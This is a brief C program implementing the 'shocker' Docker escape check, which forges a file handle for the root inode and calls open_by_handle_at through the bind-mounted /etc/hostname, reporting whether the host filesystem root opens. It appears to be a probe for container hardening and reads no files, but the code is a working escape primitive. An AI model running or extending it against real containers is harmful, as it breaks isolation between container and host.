/* open_by_handle_at of inode 2 (the root directory) of the file system behind /etc/hostname, a file
 * Docker bind-mounts from the host's disk: the "shocker" escape. Prints the outcome; reads nothing. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
  struct { unsigned int bytes; int type; unsigned char h[8]; } fh = { 8, 1, { 2, 0, 0, 0, 0, 0, 0, 0 } };
  int mfd = open("/etc/hostname", O_RDONLY);
  if (mfd < 0) { printf("shocker: open: %s\n", strerror(errno)); return 2; }
  int fd = open_by_handle_at(mfd, (struct file_handle *)&fh, O_RDONLY);
  if (fd < 0) { printf("shocker: open_by_handle_at: %s\n", strerror(errno)); return 1; }
  printf("shocker: OPENED the host file system root\n");
  close(fd);
  return 0;
}
